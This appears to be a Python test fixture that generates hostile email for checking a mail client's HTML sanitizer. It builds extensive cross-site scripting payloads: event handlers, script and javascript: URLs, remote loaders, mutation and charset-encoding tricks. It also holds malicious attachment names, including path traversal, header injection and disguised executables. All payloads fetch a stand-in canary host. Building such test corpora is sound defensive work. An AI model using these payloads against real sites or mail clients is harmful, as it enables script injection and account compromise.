"""Mail made to hurt whoever reads it, from the public classes of cross-site scripting. Whatever fires, loads or submits
does it towards CANARY, or sets window.canary: neither may ever be seen."""
import base64

CANARY = "canary.invalid"
RUN = f"window.canary=1;top.canary=1;fetch('https://{CANARY}/x')"
LOAD = f"https://{CANARY}/l"

EVENTS = ("abort animationend animationstart beforetoggle blur canplay change click copy cut dblclick drag error focus "
          "focusin hashchange input invalid keydown load loadedmetadata loadstart message mouseenter mouseover pageshow "
          "paste pointerenter pointerover popstate progress readystatechange resize scroll select show submit toggle "
          "touchstart transitionend unload wheel").split()
HOSTS = ["img src=x", "body", "video src=x", "audio src=x", "input autofocus", "details open", "select autofocus",
         "textarea autofocus", "marquee", "svg", "math", "iframe src=x", "object data=x", "a href=# autofocus"]


def by_events():
    return [f"<{HOSTS[i % len(HOSTS)]} on{event}=\"{RUN}\">x</{HOSTS[i % len(HOSTS)].split()[0]}>"
            for i, event in enumerate(EVENTS)] + [
        f"<img/src='x'/onerror={RUN}>", f"<IMG SRC=x OnErRoR=\"{RUN}\">", f"<img src=x\tonerror\n=\n'{RUN}'>",
        f"<img src=`x` onerror=`{RUN}`>", f"<img src=x:x onerror\x0b={RUN}>", f"<img \x00src=x onerror={RUN}>",
        f"<<img src=x onerror={RUN}>", f"<img src=x onerror={RUN}//", f"<img src=\"x\" title=\"a\"onerror=\"{RUN}\">",
        f"<img src=x onerror=&#119;indow.canary&#61;1>", f"<img src=x one&#114;ror={RUN}>",
    ]


def by_scripts():
    return [f"<script>{RUN}</script>", f"<SCRIPT SRC={LOAD}.js></SCRIPT>", f"<script/x>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
            f"<script\n>{RUN}</script\n>", f"<script type=module>{RUN}</script>", f"<script type=text/vbscript>{RUN}</script>",
            f"<script src=data:,{RUN}></script>", f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
            f"<template><script>{RUN}</script></template>", f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
            f"<link rel=import href={LOAD}>", f"<link rel=preload as=script href={LOAD}>", f"<link rel=prefetch href={LOAD}>",
            f"<link rel=dns-prefetch href=//{CANARY}>", f"<link rel=stylesheet href={LOAD}.css>", f"<link rel=icon href={LOAD}.ico>",
            f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->", f"<!--><script>{RUN}</script>-->", f"<!--!><script>{RUN}</script>",
            f"<?xml-stylesheet href='{LOAD}'?><script>{RUN}</script>", f"<![CDATA[<script>{RUN}</script>]]>"]


def by_addresses():
    shapes = ["javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "&#106;avascript:{}",
              "javascript&colon;{}", "javascript&#58;{}", "\x01javascript:{}", "vbscript:{}", "data:text/html,<script>{}</script>",
              "data:text/html;base64," + base64.b64encode(f"<script>{RUN}</script>".encode()).decode(),
              "data:image/svg+xml,<svg onload={} xmlns='http://www.w3.org/2000/svg'/>", "blob:{}", "filesystem:{}", "about:blank#{}", "//" + CANARY + "/{}"]
    places = ["<a href=\"{}\">x</a>", "<img src=\"{}\">", "<iframe src=\"{}\"></iframe>", "<form action=\"{}\"><button>x</button></form>",
              "<object data=\"{}\"></object>", "<area href=\"{}\">", "<base href=\"{}\">"]
    return [place.format(shape.format("window.canary=1")) for shape in shapes for place in places]


def by_loading():
    return [part.replace("{{", "{").replace("}}", "}").replace("{}", LOAD) for part in (
        "<img src={}>", "<img srcset='{} 2x'>", "<picture><source srcset={}><img></picture>", "<video src={} autoplay></video>",
        "<video poster={}></video>", "<audio src={} autoplay></audio>", "<track src={}>", "<embed src={}>", "<object data={}></object>",
        "<iframe src={}></iframe>", "<iframe srcdoc=\"<img src='{}'>\"></iframe>", "<frameset><frame src={}></frameset>", "<input type=image src={}>",
        "<body background={}>", "<table background={}><tr><td background={}>x</td></tr></table>", "<div style='background:url({})'>x</div>",
        "<p style=\"list-style-image:url({})\">x</p>", "<style>@import '{}';</style>", "<style>@import url({});</style>", "<style>*{{background:url({})}}</style>",
        "<style>@font-face{{font-family:a;src:url({})}}*{{font-family:a}}</style>", "<style>body::before{{content:url({})}}</style>",
        "<svg><image href={} /></svg>", "<svg><use href={}#a /></svg>", "<svg><feImage href={} /></svg>", "<svg><style>@import '{}';</style></svg>",
        "<meta http-equiv=refresh content='0;url={}'>", "<meta http-equiv=Content-Security-Policy content=\"img-src *\"><img src={}>",
        "<img src='{}' loading=eager>", "<a href=/ ping={}>x</a>", "<q cite={}>x</q>", "<blockquote cite={}>x</blockquote>", "<del cite={}>x</del>",
        "<img longdesc={}>", "<img lowsrc={}>", "<img dynsrc={}>", "<isindex action={}>", "<bgsound src={}>", "<layer src={}></layer>", "<portal src={}>",
        "<math href={}>x</math>", "<math><mtext><img src={}></mtext></math>", "<img src='cid:x\" onerror=\"fetch(&quot;{}&quot;)'>")]


def by_mutation():
    tail = f"<img src=x onerror=\"{RUN}\">"
    return [
        f"<svg></p><style><a id=\"</style>{tail}\">", f"<math><mtext><table><mglyph><style><!--</style>{tail}", f"<svg><style>&lt;{tail}</style>",
        f"<math><annotation-xml encoding=text/html>{tail}</annotation-xml></math>", f"<svg><foreignObject>{tail}</foreignObject></svg>",
        f"<form><math><mtext></form><form><mglyph><style></math>{tail}", f"<table><td><svg><desc></table>{tail}", f"<xmp><p title=\"</xmp>{tail}\">",
        f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>", f"<plaintext>{tail}", f"<noembed><p title=\"</noembed>{tail}\">", f"<noframes><p title=\"</noframes>{tail}\">",
        f"<textarea><p title=\"</textarea>{tail}\">", f"<title><p title=\"</title>{tail}\">", f"<iframe><p title=\"</iframe>{tail}\">", f"<select><style></select>{tail}",
        f"<p title='`onmouseover={RUN}'>", f"<p title=\"&lt;/p>{tail}\">", f"<a title=\"a\x00b\">{tail}", f"<svg><title><style><img title=\"</style>{tail}\">",
        f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>", f"<svg><set attributeName=onmouseover to={RUN} />",
        f"<svg><script href=data:,{RUN} />", f"<svg><script xlink:href={LOAD} />", f"<svg onload={RUN}>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>", f"<math xlink:href=javascript:{RUN}>x</math>",
        f"<div style=width:expression({RUN})>x</div>", f"<div style=\"-moz-binding:url({LOAD})\">x</div>", f"<div style=behavior:url({LOAD})>x</div>",
        f"<x style=animation-name:a onanimationstart={RUN}>x</x>", f"<div onclick={RUN} style=position:fixed;inset:0>x</div>", f"<style>*{{position:fixed}}</style>",
        f"<keygen autofocus onfocus={RUN}>", f"<dialog open><form method=dialog>{tail}</form></dialog>", f"<input type=hidden oncontentvisibilityautostatechange={RUN}>",
        f"<button popovertarget=a>x</button><div popover id=a onbeforetoggle={RUN}>x</div>", f"<a id=canary><a id=canary name=csrf>x</a>", f"<form id=ecrire><input name=action></form>",
        f"<img name=getElementById><img name=cookie>", f"<body><body onload={RUN}>", f"</body></html>{tail}", f"<html manifest={LOAD}>", f"<frameset onload={RUN}>",
    ]


def html_bodies() -> list:
    return by_events() + by_scripts() + by_addresses() + by_loading() + by_mutation()


def charset_tricks() -> list:
    """(charset of the part, bytes)."""
    script = f"<script>{RUN}</script>"
    return [
        ("utf-7", script.replace("<", "+ADw-").replace(">", "+AD4-").encode()), ("utf-16", script.encode("utf-16")),
        ("utf-16le", script.encode("utf-16-le")), ("utf-32", script.encode("utf-32")), ("iso-2022-jp", b"\x1b$B<script>\x1b(B" + script.encode()),
        ("x-user-defined", script.encode()), ("us-ascii", bytes((b | 0x80) for b in script.encode())), ("hz-gb-2312", b"~{<img~}" + script.encode()),
        ("gb18030", b"<img title=\"\x81\" onerror=" + RUN.encode() + b" src=x>"), ("shift_jis", b"<img title=\"\x83\" src=x onerror=" + RUN.encode() + b">"),
        ("utf-8", b"<img title=\"\xc0\" src=x onerror=" + RUN.encode() + b" \">"), ("utf-8", b"\xef\xbb\xbf" + script.encode()), ("nonsense", script.encode()),
        ("ibm037", script.encode("cp037")), ("utf-8\"; x=\"", script.encode()), ("iso-8859-1", b"<scr\xadipt>" + RUN.encode() + b"</scr\xadipt>"),
    ]


NAMES = [f"\"><img src=x onerror={RUN}>.pdf", "a.pdf\r\nX-Injected: 1", "../../etc/passwd", "facture.pdf.exe", "<svg onload=alert(1)>.svg", "‮fdp.exe",
         "a\x00.pdf", "con.txt", "a;b=\"c\".pdf", "'><script>" + RUN + "</script>.png"]
LINES = [f"<script>{RUN}</script>", f"\"><img src=x onerror={RUN}>", f"javascript:{RUN}", f"https://a.fr/\" onmouseover=\"{RUN}", f"</title><script>{RUN}</script>",
         f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"<!--<script>{RUN}</script>-->"]
